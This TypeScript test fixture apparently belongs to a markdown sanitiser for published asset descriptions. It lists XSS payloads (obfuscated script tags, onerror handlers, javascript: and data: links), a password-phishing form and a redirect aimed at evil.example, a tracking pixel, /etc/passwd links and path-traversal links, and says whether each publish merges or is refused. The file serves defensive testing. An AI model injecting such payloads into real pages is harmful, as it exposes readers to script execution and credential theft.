import { ANN, asset, version } from './gallery.ts';
import { merges, refuses, type ProposalWorld } from './world.ts';

/**
 * Markdown that would harm its readers if it were shown as it is written. It is sanitised where pages are built (DESIGN.md, decision
 * 5), so that nobody need be refused for it; the worlds say what publishers are told. What looks like a file of the asset and is none is an error.
 */
export const DISGUISES: Readonly<Record<string, { readonly text: string; readonly told?: 'warning' | 'error' }>> = {
  'a script': { text: '<script>alert(1)</script>' },
  'a script in capitals and parts': { text: '<ScR\nipt>alert(1)</sCrIpT><scr<script>ipt>alert(1)</script>' },
  'an image that calls': { text: '<img src=x onerror=alert(1)>', told: 'error' },
  'an SVG': { text: '<svg/onload=alert(1)><script>alert(1)</script></svg>' },
  'MathML that becomes something else': { text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', told: 'error' },
  'a frame': { text: '<iframe src="javascript:alert(1)"></iframe>' },
  'a form': { text: '<form action="https://evil.example"><input name=password><button>Go</button></form>' },
  'a style over the page': { text: '<div style="position:fixed;inset:0">Log in</div>' },
  'a base address': { text: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">' },
  'names that code of the page would find': { text: '<a id=location name=cookie href="https://example.org">x</a>' },
  'javascript: in a link': { text: '[x](javascript:alert(1))', told: 'warning' },
  'JaVaScRiPt: in a link': { text: '[x](JaVaScRiPt:alert(1))', told: 'warning' },
  'javascript: with entities': { text: '[x](java&#x73;cript:alert(1)) [y](javascript&colon;alert(1))', told: 'warning' },
  'javascript: with escapes': { text: '[x](javascript\\:alert(1))', told: 'warning' },
  'javascript: in angle brackets': { text: '<javascript:alert(1)>' },
  'javascript: by reference': { text: '[x][y]\n\n[y]: javascript:alert(1)', told: 'warning' },
  'javascript: in an HTML link with a tab': { text: '<a href="java\tscript:alert(1)">x</a>', told: 'error' },
  'javascript: in an HTML link with a control character': { text: '<a href="\u0001javascript:alert(1)">x</a>', told: 'error' },
  'javascript: as an image': { text: '![x](javascript:alert(1))', told: 'warning' },
  'data: in a link': { text: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', told: 'warning' },
  'vbscript: and file: in links': { text: '[x](vbscript:msgbox) [y](file:///etc/passwd)', told: 'warning' },
  'an address without its scheme': { text: '[x](//evil.example/a)', told: 'warning' },
  'an image from elsewhere, to count readers': { text: '![x](https://evil.example/pixel.gif)', told: 'warning' },
  'an address with a password': { text: '[x](https://me:pw@evil.example/)' },
  'a comment that hides an end': { text: '<!-- --!><script>alert(1)</script> -->' },
  'an end of the page': { text: '</div></body></html><script>alert(1)</script>' },
  'a template of MDX': { text: '{alert(1)}\n\nimport x from "y"\n\nexport const z = 1' },
  'a list without end': { text: `${'> '.repeat(2000)}x` },
};

export const MARKDOWN: readonly ProposalWorld[] = [
  ...Object.entries(DISGUISES).map(([name, { text, told }]) =>
    told === 'error'
      ? refuses(`${name} in a description`, ANN, asset('acme/sample', {}, text), ['markdown-links'])
      : merges(`${name} in a description`, ANN, asset('acme/sample', {}, text), told === undefined ? [] : ['markdown-links (warning)']),
  ),
  merges('javascript: in notes', ANN, version('acme/sample', '1.0.0', {}, '[x](javascript:alert(1))'), ['markdown-links (warning)']),
  refuses('a link out of the asset', ANN, asset('acme/sample', {}, '[x](../../zeta/zoom/asset.md)'), ['markdown-links']),
  refuses('a link from the root', ANN, asset('acme/sample', {}, '[x](/etc/passwd)'), ['markdown-links']),
  refuses('a link out of the asset in disguise', ANN, asset('acme/sample', {}, '[x](%2e%2e/%2e%2e/zeta/zoom/asset.md)'), ['markdown-links']),
  refuses('an image that is not there', ANN, asset('acme/sample', {}, '![x](images/none.png)'), ['markdown-links']),
];
